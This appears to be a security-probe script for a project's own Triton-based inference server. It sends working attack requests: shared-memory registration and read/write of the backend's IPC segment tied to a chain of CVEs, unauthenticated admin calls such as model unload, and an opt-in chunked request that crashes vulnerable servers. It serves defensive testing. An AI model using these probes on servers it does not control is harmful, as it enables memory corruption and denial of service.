"""An attacker's probes of a running ``vitrt serve``, over HTTP and gRPC, on loopback: the admin APIs
Triton opens by default, the Python backend's own shared memory (CVE-2025-23320 -> 23319 -> 23334),
the path in the model config, and (opt-in, it kills a vulnerable server) the chunked request of
CVE-2025-23310. The serving tests assert on these; the table is what an issue note reports.

    python -m benchmarks.serve_probes 127.0.0.1:8000 --grpc 127.0.0.1:8001 --model b16_384 [--token T] [--chunked]

Each probe gives the HTTP status (or gRPC status code) it got; "open" or "closed" says whether the
server did what an attacker asked.
"""

from __future__ import annotations

import argparse
import glob
import json
import socket
import urllib.error
import urllib.request

#: a 1x1 PNG as base64 text (vitrt's model decodes base64 text): a request the model answers
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGPgEpEDAABoAD1UCKP3AAAAAElFTkSuQmCC"
OPEN = "open"
CLOSED = "closed"


def http(url: str, method: str, path: str, body: dict | None = None, headers: dict | None = None,
         timeout: float = 30) -> tuple[int, str]:
    data = json.dumps(body).encode() if body is not None else (b"" if method == "POST" else None)
    req = urllib.request.Request(f"http://{url}{path}", data, {"Content-Type": "application/json", **(headers or {})},
                                 method=method)
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, r.read().decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode(errors="replace")


def backend_segment(pid: int | None = None) -> str | None:
    """The Python backend's shared-memory segment (what CVE-2025-23320 leaks through an error message;
    a probe on the same host reads /dev/shm instead)."""
    from vitrt.serving.server import SHM_LOCK

    ours = glob.glob(f"/dev/shm/vitrt{pid}-*_*" if pid else "/dev/shm/vitrt*_*")  # vitrt/serving/server.py SHM_PREFIX
    names = sorted(n for n in ours if not n.endswith("_" + SHM_LOCK)) or sorted(glob.glob("/dev/shm/triton_python_backend_shm*"))
    return "/" + names[0].rsplit("/", 1)[1] if names else None


def _infer_with_region(url: str, model: str, as_input: bool, headers: dict | None = None) -> tuple[int, str]:
    params = {"shared_memory_region": "r1", "shared_memory_byte_size": 4096}
    if as_input:  # the segment's bytes become the request's input: the server reads live IPC memory for us
        body = {"inputs": [{"name": "image", "shape": [1, 1], "datatype": "BYTES", "parameters": params}]}
    else:  # the model's output is written into the segment: the client writes into the backend's IPC memory
        body = {"inputs": [{"name": "image", "shape": [1, 1], "datatype": "BYTES", "data": [_PNG]}],
                "outputs": [{"name": "embedding", "parameters": params}]}
    return http(url, "POST", f"/v2/models/{model}/infer", body, headers)


def http_probes(url: str, model: str, segment: str | None, headers: dict | None = None) -> dict[str, tuple[int, str]]:
    """{probe: (status, verdict)} over HTTP, sent with ``headers`` (none: an attacker without the token)."""
    out = {}

    def probe(name, method, path, body=None, ok=lambda s, t: s == 200):
        status, text = http(url, method, path, body, headers)
        out[name] = (status, OPEN if ok(status, text) else CLOSED)
        return status, text

    key = segment or "/vitrt-no-segment-found"
    probe("shm register (backend's own segment)", "POST", "/v2/systemsharedmemory/region/r1/register",
          {"key": key, "offset": 0, "byte_size": 4096})
    status, text = _infer_with_region(url, model, as_input=True, headers=headers)
    # open: the server took the request's input from the segment (Triton then parses those live IPC bytes)
    out["shm read through an inference input"] = (status, OPEN if "shared memory" not in text.lower() else CLOSED)
    if headers is None or out["shm register (backend's own segment)"][1] == CLOSED:
        # open: the model's answer was written into the segment (200); Triton 2.51 then aborts at its next
        # request (a corrupted boost::interprocess lock in the segment): not sent with a working token
        status, text = _infer_with_region(url, model, as_input=False, headers=headers)
        out["shm write through an inference output"] = (status, OPEN if status == 200 else CLOSED)
    http(url, "POST", "/v2/systemsharedmemory/region/r1/unregister", None, headers)
    probe("shm status", "GET", "/v2/systemsharedmemory/status")
    probe("cuda shm status", "GET", "/v2/cudasharedmemory/status")
    probe("repository index", "POST", "/v2/repository/index", {})
    probe("model unload", "POST", f"/v2/repository/models/{model}/unload", {})
    probe("statistics", "GET", f"/v2/models/{model}/stats")
    probe("log settings read", "GET", "/v2/logging")
    probe("log settings change", "POST", "/v2/logging", {"log_verbose_level": 0})
    probe("trace settings", "GET", "/v2/trace/setting")
    # open here means: a path of the server's filesystem in the answer
    probe("model config shows a path", "GET", f"/v2/models/{model}/config",
          ok=lambda s, t: s == 200 and any(p.get("string_value", "").startswith("/")
                                           for p in (json.loads(t).get("parameters") or {}).values()))
    return out


def grpc_probes(url: str, model: str, segment: str | None, token: str | None = None) -> dict[str, tuple[str, str]]:
    """{probe: (status code, verdict)} over gRPC (tritonclient), with the token as metadata or without."""
    import tritonclient.grpc as tc

    from vitrt.serving.security import GRPC_HEADER

    headers = {GRPC_HEADER: token} if token else None
    client = tc.InferenceServerClient(url)
    out = {}

    def probe(name, call):
        try:
            call()
            out[name] = ("OK", OPEN)
        except Exception as exc:  # InferenceServerException
            out[name] = (str(exc.status() if hasattr(exc, "status") else exc).replace("StatusCode.", ""), CLOSED)

    try:
        probe("shm register (backend's own segment)", lambda: client.register_system_shared_memory(
            "r1", segment or "/vitrt-no-segment-found", 4096, headers=headers))
        probe("shm status", lambda: client.get_system_shared_memory_status(headers=headers))
        probe("cuda shm status", lambda: client.get_cuda_shared_memory_status(headers=headers))
        probe("repository index", lambda: client.get_model_repository_index(headers=headers))
        probe("model unload", lambda: client.unload_model(model, headers=headers))
        probe("statistics", lambda: client.get_inference_statistics(model, headers=headers))
        probe("log settings read", lambda: client.get_log_settings(headers=headers))
        probe("trace settings", lambda: client.get_trace_settings(headers=headers))
        try:
            client.unregister_system_shared_memory("r1", headers=headers)
        except Exception:
            pass
    finally:
        client.close()
    return out


def chunked_request(url: str, model: str, chunks: int = 600_000, timeout: float = 60) -> str:
    """CVE-2025-23310: a chunked inference POST of ``chunks`` one-byte chunks. Returns what happened; on
    Triton before 25.07 the server process dies (the chunks are gathered on the stack)."""
    host, port = url.rsplit(":", 1)
    head = (f"POST /v2/models/{model}/infer HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n"
            "Content-Type: application/json\r\n\r\n").encode()
    body = b"1\r\nA\r\n" * chunks + b"0\r\n\r\n"
    try:
        with socket.create_connection((host, int(port)), timeout=timeout) as s:
            s.sendall(head + body)
            answer = s.recv(200).split(b"\r\n", 1)[0].decode(errors="replace")
        return f"answered: {answer or 'connection closed'}"
    except OSError as exc:
        return f"no answer ({exc.__class__.__name__})"


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("url", help="HTTP host:port of vitrt serve")
    p.add_argument("--grpc", default=None, help="gRPC host:port (default: none: HTTP probes only)")
    p.add_argument("--model", default="b16_384", help="model name (default: %(default)s)")
    p.add_argument("--token", default=None, help="send the admin token (default: none, as an attacker)")
    p.add_argument("--chunked", action="store_true", help="also send CVE-2025-23310's chunked request (kills 2.51)")
    args = p.parse_args(argv)
    from vitrt.serving.security import ADMIN_HEADER

    segment = backend_segment()
    print(f"backend segment: {segment}")
    headers = {ADMIN_HEADER: args.token} if args.token else None
    for name, (status, verdict) in http_probes(args.url, args.model, segment, headers).items():
        print(f"HTTP  {name:42s} {status:>4}  {verdict}")
    if args.grpc:
        for name, (status, verdict) in grpc_probes(args.grpc, args.model, segment, args.token).items():
            print(f"gRPC  {name:42s} {status:>12}  {verdict}")
    if args.chunked:
        print(f"HTTP  chunked request (600,000 chunks): {chunked_request(args.url, args.model)}")
        try:
            status, _ = http(args.url, "GET", "/v2/health/live", timeout=5)
            print(f"      server after it: live {status}")
        except OSError as exc:
            print(f"      server after it: down ({exc.__class__.__name__})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
